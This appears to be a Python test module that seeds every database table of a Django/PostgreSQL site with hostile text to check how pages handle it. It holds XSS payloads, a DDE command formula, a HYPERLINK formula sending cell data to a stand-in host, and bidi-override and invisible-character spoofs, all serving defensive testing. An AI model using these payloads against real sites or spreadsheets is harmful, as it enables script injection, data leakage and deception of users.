"""Hostile text in every text column of every table, by the catalog."""

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from uuid import UUID

from psycopg import errors, sql

from tests.schema.catalog import Catalog, read
from tests.schema.rows import Rows

#: Kinds of hostile text, each with shorter texts for narrow columns.
KINDS: dict[str, tuple[str, ...]] = {
    # Text that breaks out of an attribute, or of an element.
    "markup": (
        "'\"></textarea></title><img src=x onerror=hit()><svg onload=hit()>",
        "'\"><img src=x onerror=hit()>",
        "<svg onload=hit()>",
        "<b a='\">",
        '<"',
    ),
    # Text that breaks out of a script's string, or a URL that is a script.
    "script": (
        "javascript:hit()//</script><script>hit()</script>",
        "</script><script>hit()",
        "javascript:hit()",
        "<script>",
        "<!",
    ),
    # Text that format strings, templates and spreadsheets interpret.
    "format": (
        '=HYPERLINK("http://x.example/"&A1,"{0}%s%(a)s{{ 7|add:7 }}{% csrf_token %}")',
        "=cmd|' /C calc'!A0{0}%s{{ 7 }}",
        "@SUM(A1){0}%s%(a)d",
        "+1{0}%s",
        "-1",
    ),
}
#: Text that is not an attack, but breaks a page's layout or deceives its reader.
SHAPES: dict[str, tuple[str, ...]] = {
    "unbroken": tuple("W" * size for size in (4_000, 500, 255, 100, 50, 30, 20, 10, 2)),
    "blank": ("     ", "  "),
    "invisible": ("\u200badmin_x\u2060", "\u3164\u200b", "\u200b", "\u2800"),
    "turned": ("\u202egnp.exe \u05d0\u05d1", "\u202eab", "\u05d0"),
}
#: A secret that must never be shown anywhere.
SECRET = "S3CRET"


@dataclass
class Hostile:
    """The inserted rows: each table's key, and each column's text."""

    kind: str
    keys: dict[str, Any] = field(default_factory=dict)
    texts: dict[tuple[str, str], str] = field(default_factory=dict)
    #: Text columns whose checks do not allow such text.
    left_out: set[tuple[str, str]] = field(default_factory=set)


def text_of(kind: str, type_: str) -> Any:
    """The longest text of a kind that fits a column of this type; None if it stores no text."""
    texts = (KINDS | SHAPES)[kind]
    longest = texts[0]
    if type_ == "text":
        return longest
    if type_.endswith("[]"):
        text = text_of(kind, type_.removesuffix("[]"))
        return None if text is None else [text, text]
    if type_ == "jsonb":
        return {longest: longest, "list": [longest]}
    if type_.startswith("character varying"):
        bound = int(type_.removeprefix("character varying(").removesuffix(")"))
        return next(text for text in texts if len(text) <= bound)
    return None


def insert(
    cursor: Any, kind: str, secrets: dict[str, frozenset[str]], adapt: Callable[[Any], Any]
) -> Hostile:
    """Insert a row with hostile text into each of the 28 tables; the rows refer to each other.

    `secrets` are the columns of each table that get a text by which they are known in an answer;
    `adapt` makes a dictionary what the driver takes for jsonb.
    """
    catalog = read(cursor)
    rows = Rows(cursor, catalog)
    made = Hostile(kind)
    for table in _parents_first(catalog):
        columns = catalog.tables[table].columns
        keys = {key.column: made.keys.get(key.target)
                for key in catalog.foreign_keys if key.table == table}  # fmt: skip
        # An ID below those of all other rows: the lists that are ordered by it show this row first.
        made.keys[table] = rows.insert(
            table,
            id=UUID(int=random.getrandbits(64)),
            **{name: key for name, key in keys.items() if key},
        )
        for name, column in columns.items():
            text = text_of(kind, column.type)
            if name in secrets.get(table, ()):
                text = f"{SECRET} {kind} {table} {name}"
            if text is None:
                continue
            if _update(cursor, table, name, made.keys[table], adapt(text)):
                made.texts[table, name] = str(text)
            else:
                made.left_out.add((table, name))
    # A reply to the comment, so that it is shown too.
    cursor.execute(
        "INSERT INTO public.track_comments (track_id, user_id, parent_id, content)"
        " SELECT track_id, user_id, id, content FROM public.track_comments WHERE id = %s",
        [made.keys["track_comments"]],
    )
    return made


def _parents_first(catalog: Catalog) -> Iterator[str]:
    done: set[str] = set()
    while waiting := [table for table in catalog.tables if table not in done]:
        for table in waiting:
            targets = {key.target for key in catalog.foreign_keys if key.table == table}
            if targets - done <= {table}:
                done.add(table)
                yield table


def _update(cursor: Any, table: str, column: str, key: Any, text: Any) -> bool:
    """Write a text into a column; return False if a check does not allow it."""
    cursor.execute("SAVEPOINT hostile")
    try:
        cursor.execute(
            sql.SQL("UPDATE public.{} SET {} = %s WHERE id = %s").format(
                sql.Identifier(table), sql.Identifier(column)
            ),
            [text, key],
        )
    except Exception as error:
        if not isinstance(error.__cause__ or error, errors.CheckViolation):
            raise
        cursor.execute("ROLLBACK TO SAVEPOINT hostile")
        return False
    return True


def remember(cursor: Any, made: Hostile, adapt: Callable[[Any], Any]) -> None:
    """Add an entry of the staff log and a note about each row, also with hostile text."""
    for log in ("veza_site_stafflogentry", "veza_site_note"):
        cursor.execute(
            "SELECT attname, format_type(atttypid, atttypmod) FROM pg_attribute"
            " WHERE attrelid = %s::regclass AND attnum > 0 AND NOT attisdropped",
            [f"django.{log}"],
        )
        types = dict(cursor.fetchall())
        for table, key in list(made.keys.items()):
            values = {name: text_of(made.kind, type_) for name, type_ in types.items()}
            values |= {name: made.keys["users"] for name in types if name in PEOPLE}
            values |= {"subject_table": table, "subject_id": str(key)}
            given = {name: adapt(value) for name, value in values.items() if value is not None}
            names = sql.SQL(", ").join(map(sql.Identifier, given))
            places = sql.SQL(", ").join([sql.Placeholder()] * len(given))
            cursor.execute(
                sql.SQL("INSERT INTO django.{} ({}) VALUES ({}) RETURNING id").format(
                    sql.Identifier(log), names, places
                ),
                list(given.values()),
            )
            made.keys[log] = cursor.fetchone()[0]


#: Who did or wrote it.
PEOPLE = ("staff_id", "author_id")
